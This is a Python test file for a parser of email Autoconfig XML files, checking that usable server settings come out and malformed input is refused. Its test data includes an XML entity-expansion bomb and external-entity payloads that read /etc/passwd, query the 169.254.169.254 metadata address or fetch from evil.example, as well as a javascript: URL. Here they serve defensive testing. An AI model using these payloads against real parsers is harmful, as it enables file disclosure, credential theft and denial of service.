"""The Autoconfig file as providers really write it, and as an attacker would."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teczka.core.discovery import Service
from teczka.remote.discovery.autoconfig import HOST, Config, parse
from teczka.remote.discovery.tree import DEPTH, ELEMENTS, NotRead, read
from teczka.remote.egress import MAIL

ADDRESS = "anna.nowak@lipowa.example"


def server(
    kind: str = "imap", host: str = "imap.lipowa.example", port: str = "993", socket: str = "SSL", more: str = ""
) -> str:
    element = "outgoingServer" if kind == "smtp" else "incomingServer"
    return (
        f'<{element} type="{kind}"><hostname>{host}</hostname><port>{port}</port><socketType>{socket}</socketType>'
        f"{more}</{element}>"
    )


def document(*servers: str, more: str = "<displayShortName>Lipowa</displayShortName>", head: str = "") -> bytes:
    inside = (
        f'<emailProvider id="lipowa.example"><domain>lipowa.example</domain>{more}{"".join(servers)}</emailProvider>'
    )
    return f'{head}<clientConfig version="1.1">{inside}</clientConfig>'.encode()


def config(*servers: str, more: str = "") -> Config:
    return parse(document(*servers, more=more), ADDRESS)


def told(found: Config) -> list[tuple[str, str, int, str]]:
    return [(one.service.value, one.server.host, one.server.port, one.server.security) for one in found.settings]


def test_a_usual_file_is_understood() -> None:
    found = parse(
        document(
            server(more="<username>%EMAILADDRESS%</username><authentication>password-cleartext</authentication>"),
            server("pop3", "pop3.lipowa.example", "110", "STARTTLS", "<username>%EMAILLOCALPART%</username>"),
            server("smtp", "smtp.%EMAILDOMAIN%", "465"),
            more="<displayName>Poczta %EMAILDOMAIN%</displayName>"
            '<documentation url="https://help.lipowa.example/"><descr lang="pl">x</descr></documentation>',
            head='<?xml version="1.0" encoding="UTF-8"?>\n<!-- hello -->\n',
        ),
        ADDRESS,
    )
    assert told(found) == [
        ("imap", "imap.lipowa.example", 993, "tls"),
        ("pop3", "pop3.lipowa.example", 110, "starttls"),
        ("smtp", "smtp.lipowa.example", 465, "tls"),
    ]
    assert [one.username for one in found.settings] == [ADDRESS, "anna.nowak", ADDRESS]
    assert (found.name, found.help_url) == ("Poczta lipowa.example", "https://help.lipowa.example/")


def test_all_of_several_servers_are_kept_in_their_order_and_pop3_too() -> None:
    found = config(
        server(host="a.example"), server("pop3", "p.example", "995"), server(host="b.example"), server(host="a.example")
    )
    assert [one.server.host for one in found.settings] == ["a.example", "p.example", "b.example"]


@pytest.mark.parametrize(
    "useless",
    [
        server("exchange", more="<owaURL>https://mail.lipowa.example</owaURL>"),
        '<incomingServer type="ews"><url>https://x.example/</url><username>%EMAILADDRESS</username></incomingServer>',
        '<incomingServer type="graph"/>',
        "<incomingServer><hostname>imap.lipowa.example</hostname></incomingServer>",
        '<incomingServer type="smtp"><hostname>a.example</hostname><port>465</port><socketType>SSL</socketType></incomingServer>',
        '<outgoingServer type="imap"><hostname>a.example</hostname><port>993</port><socketType>SSL</socketType></outgoingServer>',
        server(socket="plain"),
        server(socket=""),
        server(port=""),
        server(port="0"),
        server(port="25"),
        server(port="٩٩٣"),
        server(port="-993"),
        server(port="9" * 5000),
        server(host=""),
        server(host="localhost"),
        server(host="127.0.0.1"),
        server(host="[::1]"),
        server(host="imap.%REALNAME%.example"),
        server(host="imap.lipowa.example/x"),
        server(host="a" * 64 + ".example"),
        server(more="<authentication>NTLM</authentication><authentication>GSSAPI</authentication>"),
        server("smtp", port="465", more="<authentication>client-IP-address</authentication>"),
    ],
)
def test_what_we_do_not_know_or_do_is_left_out_and_the_rest_stays(useless: str) -> None:
    assert [one.server.host for one in config(useless, server(host="good.example")).settings] == ["good.example"]


@pytest.mark.parametrize(
    ("ways", "password"),
    [((), True), (("password-cleartext",), True), (("OAuth2", "password-cleartext"), True), (("OAuth2",), False),
     (("password-encrypted",), True), (("NTLM", "PASSWORD-CLEARTEXT"), True)],
)  # fmt: skip
def test_the_ways_to_sign_in_are_honoured(ways: tuple[str, ...], password: bool) -> None:
    more = "".join(f"<authentication>{way}</authentication>" for way in ways)
    assert [one.takes_password for one in config(server(more=more)).settings] == [password]


@pytest.mark.parametrize("name", ["%EMAILADDRESS", "%REALNAME%", "", "anna\nnowak", "x" * 400])
def test_a_user_name_that_cannot_be_filled_in_is_the_address(name: str) -> None:
    assert [one.username for one in config(server(more=f"<username>{name}</username>")).settings] == [ADDRESS]


def test_a_version_a_prefix_or_an_encoding_of_its_own_is_no_hindrance() -> None:
    prefixed = (
        b'<c:clientConfig xmlns:c="urn:x" version="9"><c:emailProvider>'
        + server().encode()
        + b"</c:emailProvider></c:clientConfig>"
    )
    assert told(parse(prefixed, ADDRESS)) == [("imap", "imap.lipowa.example", 993, "tls")]
    polish = document(more="<displayName>Źródło</displayName>", head='<?xml version="1.0" encoding="windows-1250"?>')
    assert parse(polish.decode().encode("windows-1250"), ADDRESS).name == "Źródło"
    assert parse(document().decode().encode("utf-16"), ADDRESS).name == "Lipowa"


@pytest.mark.parametrize(
    "url", ["http://help.example/", "javascript:alert(1)", "https://x.example/" + "a" * 600, "https://x\ny"]
)
def test_only_a_short_https_page_is_taken_for_help(url: str) -> None:
    assert config(more=f'<documentation url="{url}"/>').help_url == ""


def test_a_name_is_made_fit_to_be_shown() -> None:
    assert (
        config(more=f"<displayName>  Lipowa\n\tBank \u202e{'x' * 100}</displayName>").name == f"Lipowa Bank {'x' * 48}"
    )


BOMB = (
    '<!DOCTYPE c [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)


@pytest.mark.parametrize(
    "head",
    [
        BOMB,
        "<!DOCTYPE clientConfig>",
        '<!DOCTYPE clientConfig SYSTEM "http://169.254.169.254/x.dtd">',
        '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE c [<!ENTITY % p SYSTEM "https://evil.example/p">%p;]>',
    ],
    ids=["bomb", "empty", "external", "file", "parameter"],
)
def test_a_document_type_is_refused_before_anything_of_it_is_read(head: str) -> None:
    with pytest.raises(NotRead, match="document type"):
        parse(document(server(host="&i;"), head=head), ADDRESS)


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"<html><body>404</body></html>",
        b"<clientConfig/>",
        b"<clientConfig><emailProvider>",
        b"\x00\x01",
        b"<clientConfig>&undefined;</clientConfig>",
        b'<?xml version="1.0" encoding="utf-7"?><clientConfig/>',
        b'<?xml version="1.0" encoding="rot13"?><clientConfig/>',
        b'<?xml version="1.0" encoding="nonsense"?><clientConfig/>',
        b"<a>" * (DEPTH + 2) + b"</a>" * (DEPTH + 2),
        b"<a>" + b"<b/>" * (ELEMENTS + 1) + b"</a>",
    ],
)
def test_what_is_no_such_file_is_refused(document: bytes) -> None:
    with pytest.raises(NotRead):
        parse(document, ADDRESS)


@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_any_bytes_are_a_config_or_not_read(data: bytes) -> None:
    for document in (
        data,
        b"<clientConfig>" + data + b"</clientConfig>",
        b'<?xml version="1.0" encoding="' + data[:12] + b'"?><a/>',
    ):
        try:
            parse(document, ADDRESS)
        except NotRead:
            pass


TEXT = st.text(
    alphabet=st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="<&\ufffe\uffff"), max_size=40
)
PLAUSIBLE = st.sampled_from(
    ["imap", "smtp", "993", "465", "SSL", "STARTTLS", "a.example", "%EMAILDOMAIN%", "%EMAILADDRESS%", "OAuth2"]
)


@given(st.lists(st.tuples(*[PLAUSIBLE | TEXT] * 6), max_size=6))
def test_whatever_is_published_only_usable_servers_come_out(servers: list[tuple[str, ...]]) -> None:
    texts = (
        server(
            kind.replace('"', ""),
            host,
            port,
            socket,
            f"<username>{name}</username><authentication>{way}</authentication>",
        )
        for kind, host, port, socket, name, way in servers
    )
    for one in parse(document(*texts), ADDRESS).settings:
        assert one.service in Service
        assert HOST.fullmatch(one.server.host)
        assert one.server.port in MAIL
        assert one.server.security in {"tls", "starttls"}
        assert one.username.isprintable()
        assert one.username


def test_a_tree_knows_its_own_text_and_children() -> None:
    root = read(b"<a x='1'> one <b>two</b> three <c:b>four</c:b></a>")
    assert (root.text, [child.text for child in root.all("b")], root.first("b"), root.first("z")) == (
        "one  three",
        ["two", "four"],
        "two",
        "",
    )
    assert root.attributes == {"x": "1"}
